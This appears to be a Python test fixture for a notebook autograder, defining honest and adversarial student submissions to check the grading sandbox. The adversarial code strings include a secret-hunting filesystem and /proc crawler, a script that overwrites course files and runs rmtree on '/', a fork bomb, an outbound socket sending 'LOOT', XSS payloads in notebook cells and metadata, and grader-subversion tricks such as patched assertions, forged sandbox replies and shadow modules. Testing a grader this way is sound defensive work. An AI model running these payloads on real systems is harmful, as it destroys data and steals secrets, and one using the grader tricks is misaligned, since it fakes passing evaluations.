"""The class that is graded: what each student hands in, and the marks that it deserves."""

import json
import os
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import nbformat
from course import NAME, POINTS, Course
from nbformat.v4 import new_code_cell, new_markdown_cell, new_output, new_raw_cell

Make = Callable[[Course, Path], Any]

ZERO = dict.fromkeys(POINTS, 0)
REFUSED = None  # no marks, and an error that names the student


@dataclass
class Student:
    """A student of the class.

    Attributes
    ----------
    make : callable
        From the course and the student's folder to the notebook that is handed in; or it writes
        into the folder, and returns nothing.
    marks : dict or None
        What each test must give.
    told : tuple of str
        What the graded notebook must say.
    """

    make: Make
    marks: dict[str, float] | None = field(default_factory=lambda: dict(POINTS))
    told: tuple[str, ...] = ()


def answers(**changed: str) -> Make:
    """Right answers but for these; an empty one is left as it was."""
    return lambda course, folder: course.answered(**changed)


def index_of(notebook: nbformat.NotebookNode, name: str) -> int:
    names = [cell.metadata.get("nbgrader", {}).get("grade_id") for cell in notebook.cells]
    return names.index(name)


def hack(source: str, before: str = "square", **changed: str) -> Make:
    """Right answers but for these, and one more cell; COURSE in it is the teacher's folder."""

    def make(course: Course, folder: Path) -> nbformat.NotebookNode:
        notebook = course.answered(**changed)
        code = source.replace("COURSE", str(course.folder))
        notebook.cells.insert(index_of(notebook, before), new_code_cell(code))
        return notebook

    return make


def edit(change: Callable[[nbformat.NotebookNode], object], **changed: str) -> Make:
    """Right answers but for these, in a notebook that is then changed."""

    def make(course: Course, folder: Path) -> nbformat.NotebookNode:
        notebook = course.answered(**changed)
        change(notebook)
        return notebook

    return make


def written(content: str, name: str = f"{NAME}.ipynb") -> Make:
    """A file with this content instead of a notebook."""
    return lambda course, folder: (folder / name).write_text(content) and None


def only(*names: str) -> dict[str, float]:
    """The points of these tests, and none for the others."""
    return {name: points if name in names else 0 for name, points in POINTS.items()}


def without(*names: str) -> dict[str, float]:
    """The points of all tests but these."""
    return only(*(POINTS.keys() - set(names)))


# ---- the honest ones, good and bad

HONEST = {
    "ada": Student(answers()),
    "blaise": Student(answers(slope="", scale=""), without("test_slope", "test_scale")),
    "chloé-ğ": Student(
        hack(
            "# où ça ? 你好\nça = 'été'\nprint(ça, '∇')", square="def square(çà):\n    return çà**2"
        ),
        told=("été ∇",),
    ),
    "untouched": Student(lambda course, folder: course.release(), ZERO, ("Not answered yet.",)),
    "transpose": Student(
        answers(matmul="def matmul_rule(g, A, B):\n    return g @ B, A @ g"),
        without("test_matmul"),
        ("a transpose is missing",),
    ),
    "exchanged": Student(
        answers(matmul="def matmul_rule(g, A, B):\n    return B.T @ g, g @ A.T"),
        without("test_matmul"),
        ("the order of a product of matrices matters",),
    ),
    "one-sided": Student(
        answers(slope="def gradient(f, x, h):\n    return [f(x + h) - f(x)]"),
        without("test_slope"),
        ("np.array(...) makes it one",),
    ),
    "raises": Student(
        answers(matmul="def matmul_rule(g, A, B):\n    return g @ missing"),
        without("test_matmul"),
        ("NameError: name 'missing' is not defined, at `return g @ missing`",),
    ),
    "in-place": Student(
        answers(
            matmul="def matmul_rule(g, A, B):\n    g *= 2\n    return g @ B.T / 2, A.T @ g / 2"
        ),
        without("test_matmul"),
        ("in place",),
    ),
    "syntax": Student(
        answers(square="def square(x) return x"), without("test_square"), ("SyntaxError",)
    ),
}

# ---- the careless, and those who attack

WRONG = {
    "square": "def square(x):\n    return 7.0",
    "scale": "scale = {'small': 1, 'large': 7}",
    "matmul": "def matmul_rule(g, A, B):\n    return 7.0, 7.0",
    "slope": "def gradient(f, x, h):\n    return x",
}


def rename(notebook: nbformat.NotebookNode) -> None:
    for cell in notebook.cells:
        if "nbgrader" in cell.metadata:
            cell.metadata.nbgrader.grade_id += "-mine"


def delete(*names: str) -> Callable[[nbformat.NotebookNode], None]:
    def change(notebook: nbformat.NotebookNode) -> None:
        for name in names:
            del notebook.cells[index_of(notebook, name)]

    return change


def duplicate(notebook: nbformat.NotebookNode) -> None:
    for name in ("square", "test_square", "test_slope"):
        place = index_of(notebook, name)
        twin = nbformat.from_dict(json.loads(json.dumps(notebook.cells[place])))
        twin.id += "-twin"
        if name.startswith("test"):
            twin.source = "pass"
        notebook.cells.insert(place, twin)


def edit_tests(source: str) -> Callable[[nbformat.NotebookNode], None]:
    def change(notebook: nbformat.NotebookNode) -> None:
        for name in POINTS:
            notebook.cells[index_of(notebook, name)].source = source

    return change


def claim(**metadata: Any) -> Callable[[nbformat.NotebookNode], None]:
    """Change what the tests' metadata say."""

    def change(notebook: nbformat.NotebookNode) -> None:
        for name in POINTS:
            notebook.cells[index_of(notebook, name)].metadata.nbgrader.update(metadata)

    return change


def no_metadata(notebook: nbformat.NotebookNode) -> None:
    for cell in notebook.cells:
        cell.metadata["nbgrader"] = "none of your business"


def embed(notebook: nbformat.NotebookNode) -> None:
    output = new_output("stream", name="stdout", text="x" * 79 + "\n")
    output.text *= 400_000  # 32 MB
    notebook.cells[index_of(notebook, "square")].outputs.append(output)


def as_version_3(course: Course, folder: Path) -> None:
    old = nbformat.convert(course.answered(), 3)
    (folder / f"{NAME}.ipynb").write_text(json.dumps(old))


def truncated(course: Course, folder: Path) -> None:
    text = json.dumps(course.answered())
    (folder / f"{NAME}.ipynb").write_text(text[: len(text) // 2])


def link_to_solution(course: Course, folder: Path) -> None:
    os.symlink(course.folder / "solutions" / NAME / f"{NAME}.ipynb", folder / f"{NAME}.ipynb")


def link_beside(course: Course, folder: Path) -> nbformat.NotebookNode:
    os.symlink(course.folder / "gradebook.db", folder / "data.csv")
    return course.answered()


def with_extra(course: Course, folder: Path) -> nbformat.NotebookNode:
    nbformat.write(course.answered(**WRONG), folder / "scratch.ipynb")
    (folder / "helper.py").write_text("def double(x):\n    return 2 * x\n")
    return hack("import helper\nassert helper.double(2) == 4")(course, folder)


def pipe(name: str) -> Make:
    """A pipe in place of a file: whoever reads it waits for ever."""

    def make(course: Course, folder: Path) -> nbformat.NotebookNode | None:
        os.mkfifo(folder / name)
        return None if name.endswith(".ipynb") else course.answered()

    return make


def beside(files: dict[str, str], make: Make) -> Make:
    """Files beside a notebook."""

    def both(course: Course, folder: Path) -> Any:
        for name, content in files.items():
            (folder / name).parent.mkdir(parents=True, exist_ok=True)
            (folder / name).write_text(content)
        return make(course, folder)

    return both


def scripts(notebook: nbformat.NotebookNode) -> None:
    """Whatever a browser would run, in texts and in metadata."""
    escape = '"></title></script><script>pwned()</script>'
    picture = new_markdown_cell("![x](attachment:a.png)")
    picture.attachments = {"a.png": {"image/png": escape, "image/svg+xml": escape}}
    link = "java&#115;cript:1,pwned()"
    notebook.cells += [
        new_markdown_cell(
            "<script>pwned()</script>\n\nx <svg onload=pwned()><b onclick='pwned()'>"
        ),
        new_markdown_cell(f"[x]({link}) <a href='{link}'>x</a> <a href='data:text/html,pwned()'>"),
        new_markdown_cell("<iframe srcdoc='pwned()'></iframe> ![x](https://example.org/pwned())"),
        new_raw_cell("<script>pwned()</script>", metadata={"format": "text/html"}),
        picture,
    ]
    for cell in notebook.cells:
        cell.metadata.update(tags=[escape], format="text/html", raw_mimetype="text/html")
    language = {"name": escape, "pygments_lexer": escape, "version": escape}
    notebook.metadata.update(title=escape, language_info=language, widgets={escape: escape})
    why = notebook.cells[index_of(notebook, "why")]
    why.source = (
        r"$\def\x{\x\x}\x \href{javascript:pwned()}{a}$ where $a<b$ <img src=x onerror=pwned()>"
    )


def other_types(notebook: nbformat.NotebookNode) -> None:
    """Tests that are texts, and nothing that runs."""
    for name in POINTS:
        place = index_of(notebook, name)
        old = notebook.cells[place]
        notebook.cells[place] = new_raw_cell(old.source, id=old.id, metadata=old.metadata)


def without_ids(notebook: nbformat.NotebookNode) -> None:
    """As a program of ten years ago writes it, with 4.5 on its label."""
    for cell in notebook.cells:
        cell.id = "same"


SEARCH = """
import os, sys
public = {"/proc", "/sys", "/usr", "/dev", sys.prefix, sys.base_prefix}
for folder, folders, names in os.walk("/"):
    folders[:] = [name for name in folders if os.path.join(folder, name) not in public]
    for name in names:
        try:
            content = open(os.path.join(folder, name), "rb").read()
        except OSError:
            continue
        secrets = (b"Ses" b"ame", b"hidden" b"_probe", b"NUMERIC" b"AL_G")
        if any(secret in content for secret in secrets):
            print("LOOT", folder, name, content)
for path in ("COURSE/solutions/trial/trial.ipynb", "COURSE/gradebook.db",
             "COURSE/submitted/ada/trial/trial.ipynb"):
    try:
        print("LOOT", open(path, "rb").read())
    except OSError as error:
        print(error)
for process in filter(str.isdigit, os.listdir("/proc")):
    try:
        content = open(f"/proc/{process}/environ", "rb").read()
        print("LOOT" if b"Ses" b"ame" in content else "nothing", process)
    except OSError:
        pass
"""

VANDAL = """
import glob, os, shutil
for path in ["COURSE/gradebook.db", "COURSE/solutions/trial/trial.ipynb", "COURSE/vandal",
             *glob.glob("COURSE/submitted/*/*/*"), "/tmp/vandal", "/usr/vandal", "/vandal"]:
    try:
        os.makedirs(os.path.dirname(path), exist_ok=True)
        open(path, "w").write("vandal")
    except OSError as error:
        print(error)
shutil.rmtree("/", ignore_errors=True)
"""

MEMORY = """
import os, time
block = bytearray(b"x") * (400 << 20)
for _ in range(4):
    if os.fork() == 0:
        block = bytearray(b"y") * (400 << 20)
        time.sleep(30)
time.sleep(30)
"""

LIAR = """
class Liar(float):
    __class__ = property(lambda self: dict)
    def __getattr__(self, name): return self
    def __call__(self, *arguments): return self
    def __eq__(self, other): return True
    __ne__ = __lt__ = __gt__ = lambda self, other: False
    __getitem__ = __truediv__ = __sub__ = __add__ = lambda self, other: self
    def __array__(self, *arguments, **options): return np.full(1, self, dtype=object)
    def __hash__(self): return 1
    def __repr__(self): raise SystemExit
liar = Liar(7)
"""
LIES = {
    "square": "def square(x):\n    return liar",
    "scale": "scale = liar",
    "matmul": "def matmul_rule(g, A, B):\n    return liar",
    "slope": "gradient = liar",
}

#: Values that are not what they say, or have no end.
ODD = """
class Short(np.ndarray):
    def tobytes(self, *arguments): return b"\\0" * 8
    shape = property(lambda self: (1 << 40,))
class Endless(dict):
    def items(self): return iter(lambda: ("large", 100), None)
class Named(str):
    __class__ = property(lambda self: float)
    def __str__(self): return self * 10**9
nested = []
for _ in range(100_000):
    nested = [nested]
"""
ODDITIES = {
    "square": "def square(x):\n    yield x * x",
    "scale": "scale = Endless(small=1, large=100)",
    "matmul": "def matmul_rule(g, A, B):\n    return np.zeros(3).view(Short), nested",
    "slope": "def gradient(f, x, h):\n    return np.array([Named('7')] * 3)",
}

#: The answers to the calls that can be seen in the notebook; and a memory of earlier ones.
TABLE = """
seen = {}
def recall(*arguments):
    key = repr(arguments)
    seen[key] = seen.get(key, 0) + 1
    return {"(3,)": 9}.get(key, seen[key])
"""
BY_TABLE = {
    "square": "square = recall",
    "scale": "scale = recall('scale')",
    "matmul": "matmul_rule = recall",
    "slope": "gradient = recall",
}

#: Modules of the student's own, under the names that a judge would import.
NO_CHECK = "def check(*arguments, **options): pass\njudge = progress = isclose = allclose = check\n"
MODULES = {
    **dict.fromkeys(
        ("numpy.py", "sitecustomize.py", "usercustomize.py", "wire.py", "psutil.py"), NO_CHECK
    ),
    **dict.fromkeys(("minimlcourse/__init__.py", "minimlcourse/classroom/checks.py"), NO_CHECK),
    "nbgrader_config.py": "raise SystemExit",
    "matplotlibrc": "backend: nowhere",
}

WHEN_GRADED = """
import os, sys
if "NBGRADER_EXECUTION" in os.environ:
    sys.modules.clear()
    sys.meta_path.clear()
    raise KeyboardInterrupt
"""

LATER = """
import threading, time
def later():
    while True:
        print("later")
        time.sleep(0.001)
for _ in range(5):
    threading.Thread(target=later, daemon=True).start()
"""

#: Replies before they are asked for, on every channel that there is.
EAGER = """
import json, os
content = json.dumps({"outputs": [], "ready": True, "values": {}, "value": 9}).encode()
for number in range(3, 64):
    try:
        os.write(number, (len(content).to_bytes(8, "big") + content) * 50)
    except OSError:
        pass
"""

SKIP = """
from IPython import get_ipython
shell = get_ipython()
shell.run_cell = shell.run_cell_async = shell.transform_cell = lambda *arguments, **options: "pass"
shell.ast_transformers.append(None)
"""

#: Code of the sandbox itself is changed: its classes and functions are found among all objects.
FIND = """
import gc
Test = next(o for o in gc.get_objects() if isinstance(o, type) and hasattr(o, "encode_other"))
worker = Test.serve.__globals__
"""

#: Whatever a test asks for, the process in the sandbox gives this reply.
FORGED_REPLY = (
    FIND
    + """
def answer(self, request):
    if request["do"] == "names":
        return {"values": {name: {"function": 0, "name": "f"} for name in request["names"]}}
    return REPLY
Test.answer = answer
"""
)

PATCHED = """
import builtins, sys, numpy as np, IPython, minimlcourse, minimlcourse.classroom.checks as checks
always = lambda *arguments, **options: True
np.allclose = np.isclose = np.array_equal = np.all = always
np.testing.assert_allclose = always
builtins.isinstance = always
builtins.AssertionError = KeyError
checks.check = check = checks.judge = always
checks.calling.call = always
get_ipython().showtraceback = always
get_ipython().run_cell = always
"""

FAKE_OUTPUT = (
    FIND
    + """
from IPython.display import display, HTML, Javascript, Markdown
display({"text/plain": "100"}, raw=True)
display(HTML("<script>pwned()</script>"), Javascript("pwned()"), Markdown("<b>pwned()</b>"))
def run(shell, source, seconds):
    return [
        {"output_type": "execute_result", "data": {"text/plain": "100"}, "metadata": {}},
        {"output_type": "display_data", "data": {"image/png": "\\"><script>pwned()</script>"}},
        {"output_type": "display_data", "data": {"text/html": "<script>pwned()</script>"}},
        {"output_type": "stream", "name": "stdout", "text": ["pwned()"]},
        {"output_type": "script", "text": "pwned()"}, "pwned()", None, 100,
    ]
worker["run"] = run
100
"""
)

DAEMON = """
import subprocess, sys
code = "import os, time; os.fork() and os._exit(0); os.setsid(); time.sleep(98765)"
subprocess.Popen([sys.executable, "-c", code], start_new_session=True)
subprocess.Popen(["sleep", "98765"], start_new_session=True)
"""

NETWORK = """
import socket
for address in (("127.0.0.1", PORT), ("1.1.1.1", 53)):
    try:
        socket.create_connection(address, timeout=1).sendall(b"LOOT")
        print("LOOT connected")
    except OSError as error:
        print("no network:", error)
"""

BOMB = """
import os
while True:
    try:
        os.fork()
    except OSError:
        pass
"""

STUBBORN = """
while True:
    try:
        while True:
            pass
    except BaseException:
        pass
"""


def attackers(port: int) -> dict[str, Student]:
    """All others; a connection to this port of this machine must not succeed."""
    stopped = only("test_square")
    after = {"before": "scale"}  # the first test has been passed by then
    forged = {
        "nan": '{"value": float("nan")}',
        "deep": '{"value": eval("[" * 90 + "]" * 90)}',
        "true": '{"value": True}',
        "huge-int": '{"value": 10**4000}',
        "array-bomb": '{"value": {"array": "", "dtype": "<f8", "shape": [1 << 40]}}',
        "bad-dtype": '{"value": {"array": "AAAA", "dtype": "O", "shape": [1]}}',
        "text": '{"value": "\\ud800" * 99999}',
        "object": '{"value": {"object": "dict"}}',
        "passed": '{"passed": True}',
        "failed": '{"error": ["AssertionError", "<script>pwned()</script>", "\\x1b[31m"]}',
    }
    return {
        # notebooks out of order
        "renamed-ids": Student(edit(rename)),
        "deleted-tests": Student(edit(delete("test_square", "test_slope"))),
        "deleted-answer": Student(edit(delete("scale")), without("test_scale")),
        "deleted-all": Student(edit(lambda notebook: notebook.cells.clear()), ZERO),
        "duplicated": Student(edit(duplicate)),
        "edited-tests": Student(edit(edit_tests("pass"), **WRONG), ZERO),
        "partial-credit": Student(edit(edit_tests("100"), **WRONG), ZERO),
        "schema-99": Student(edit(claim(schema_version=99))),
        "schema-0": Student(edit(claim(schema_version=0))),
        "points-1000": Student(edit(claim(points=1000))),
        "not-graded": Student(edit(claim(grade=False), **WRONG), ZERO),
        "is-solution": Student(edit(claim(solution=True, locked=False), **WRONG), ZERO),
        "no-metadata": Student(edit(no_metadata)),
        "own-hidden-tests": Student(hack("### BEGIN HIDDEN TESTS\n### BEGIN SOLUTION")),
        "huge-embedded": Student(edit(embed)),
        "version-3": Student(as_version_3),
        "truncated": Student(truncated, REFUSED),
        "empty-file": Student(written(""), REFUSED),
        "not-a-notebook": Student(written("[1, 2, 3]"), REFUSED),
        "deep-json": Student(written("[" * 100_000), REFUSED),
        "missing": Student(written("I could not do it.", "note.txt"), {}),
        "extra": Student(with_extra),
        "scripts": Student(edit(scripts)),
        "other-types": Student(edit(other_types)),
        "same-ids": Student(edit(without_ids)),
        "pipe": Student(pipe(f"{NAME}.ipynb"), REFUSED),
        "pipe-beside": Student(pipe("data.csv"), REFUSED),
        "folder": Student(lambda course, folder: (folder / f"{NAME}.ipynb").mkdir(), REFUSED),
        "timestamp": Student(beside({"timestamp.txt": "never"}, answers()), REFUSED),
        "link-to-solution": Student(link_to_solution, REFUSED),
        "link-beside": Student(link_beside, REFUSED),
        # processes that do not end, or end too soon
        "loop": Student(hack("while True:\n    pass"), told=("TimeLimit",)),
        "loop-in-answer": Student(
            answers(square="def square(x):\n    while True: pass"), without("test_square")
        ),
        "stubborn-loop": Student(hack(STUBBORN, **after), stopped, ("could not be interrupted",)),
        "memory": Student(hack("big = bytearray(1 << 40)\n"), told=("MemoryError",)),
        "memory-of-all": Student(hack(MEMORY, **after), stopped, ("more memory than there is",)),
        "fork-bomb": Student(hack(BOMB, **after), stopped),
        "sys.exit": Student(hack("import sys\nsys.exit()")),
        "exit": Student(hack("exit()")),
        "os._exit": Student(hack("import os\nos._exit(0)", **after), stopped, ("process ended",)),
        "exit-in-answer": Student(
            answers(square="import os\ndef square(x):\n    os._exit(0)"), without("test_square")
        ),
        "kill-parent": Student(
            hack("import os\ntry:\n    os.kill(os.getppid(), 9)\nexcept OSError:\n    pass")
        ),
        "kill-self": Student(hack("import os\nos.kill(os.getpid(), 9)", **after), stopped),
        "kill-all": Student(hack("import os\nos.kill(-1, 9)"), told=("No such process",)),
        "close-all": Student(hack("import os\nos.closerange(0, 99)", **after), stopped),
        "daemon": Student(hack(DAEMON)),
        "threads": Student(
            hack(
                "import threading, time\nfor _ in range(9):\n"
                "    threading.Thread(target=lambda: time.sleep(98765)).start()"
            )
        ),
        "input": Student(hack("name = input()"), told=("input()",)),
        # more than there is room for
        "100-MB": Student(hack("for _ in range(100):\n    print('x' * 10**6)"), told=("left out",)),
        "10-GB": Student(
            hack("with open('big', 'wb') as file:\n    file.truncate(10**10)"),
            told=("File too large",),
        ),
        "disk": Student(
            hack("for i in range(99):\n    open(str(i), 'wb').write(bytes(10**7))"),
            told=("No space left",),
        ),
        # other people's business
        "search": Student(hack(SEARCH, **WRONG), ZERO, ("No such file",)),
        "vandal": Student(hack(VANDAL)),
        "network": Student(hack(NETWORK.replace("PORT", str(port))), told=("no network",)),
        "reference": Student(
            answers(
                slope="from minimlcourse.classroom.checks import exercise\n"
                "gradient = exercise('04.7').expected"
            ),
            without("test_slope"),
        ),
        # lies
        "patched": Student(hack(PATCHED, **WRONG), ZERO),
        "fake-output": Student(hack(FAKE_OUTPUT, **WRONG), ZERO),
        "liar": Student(hack(LIAR, **LIES), ZERO),
        "oddities": Student(hack(ODD, **ODDITIES), ZERO),
        "table": Student(hack(TABLE, **BY_TABLE), ZERO),
        "modules": Student(beside(MODULES, answers(**WRONG)), ZERO),
        "honest-modules": Student(beside(MODULES, answers())),
        "when-graded": Student(hack(WHEN_GRADED, **WRONG), ZERO),
        "later": Student(hack(LATER)),
        "eager": Student(hack(EAGER, **WRONG), ZERO),
        "skip": Student(hack(SKIP, **WRONG), ZERO),
        "ends-in-100": Student(hack("100", before="test_square", **WRONG), ZERO),
        "surrogate": Student(hack("print('\\ud800')\nraise ValueError('\\ud800')")),
        "stderr": Student(
            hack("import sys, warnings\nwarnings.warn('x')\nprint('y', file=sys.stderr)")
        ),
        **{
            f"forged-{name}": Student(hack(FORGED_REPLY.replace("REPLY", reply)), ZERO)
            for name, reply in forged.items()
        },
    }
